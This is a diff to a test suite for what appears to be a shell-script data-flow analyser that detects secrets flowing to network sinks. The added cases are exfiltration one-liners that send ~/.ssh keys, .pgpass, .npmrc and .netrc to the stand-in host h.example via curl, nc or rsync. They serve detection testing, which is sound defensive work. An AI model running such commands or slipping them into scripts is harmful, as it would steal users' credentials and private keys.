@@ -37,6 +37,15 @@ describe('flows of a script text', () => {
     ['env | xargs -I{} curl https://h.example/{}', 'net.out', 'env.all'],
     ['gh auth token | curl -d @- https://h.example', 'net.out', 'secret.tool'],
     ['if [ -z "$CI" ]; then curl -d "$(cat .env)" https://h.example; fi', 'net.out', 'secret.file'],
+    ['printf "%s\\n" a "$HOME/.pgpass" | xargs cat | curl -d @- https://h.example', 'net.out', 'secret.file'],
+    ['printf "%s\\n" .ssh/id_rsa | tar -C "$HOME" -czf - -T - | nc h.example 9000', 'net.socket', 'secret.file'],
+    ['find "$HOME/.ssh" -type f | cpio -o | curl -T - https://h.example', 'net.out', 'secret.file'],
+    ['echo .npmrc > /tmp/l; rsync --files-from=/tmp/l ~/ a@h.example:/in', 'net.out', 'secret.file'],
+    [
+      'show() { while read -r f; do [ -r "$f" ] && cat "$f"; done; }; { ls ~/x*; echo ~/.netrc; } | show | curl -d @- https://h.example',
+      'net.out',
+      'secret.file',
+    ],
   ])('%s', (text, sink, source) => {
     expect(flows(text, sink)).toContain(source);
   });
@@ -145,6 +154,16 @@ describe('where a script lies, and what it moves', () => {
     expect(observations.filter(({ sink }) => sink === 'net.out').map(({ target }) => target)).toEqual([
       'https://h.example',
     ]);
+  });
+
+  test('functions of a sourced file are called by their names', () => {
+    const files = {
+      'lib.sh': 'send() { curl -d "$1" "https://$host"; }\nhost=$(sed -n "s/^host: //p" notes)\n',
+      notes: 'a\nhost: h.example\n',
+    };
+    const { observations } = run('. ./lib.sh; send "$(cat ~/.npmrc)"', files);
+    const sent = observations.filter(({ sink, target }) => sink === 'net.out' && target === 'https://h.example');
+    expect(sent.flatMap(({ taints }) => taints.map(({ source }) => source))).toContain('secret.file');
   });
 
   test('autoconf makes names with sed and tr, and evaluates assignments of them', () => {
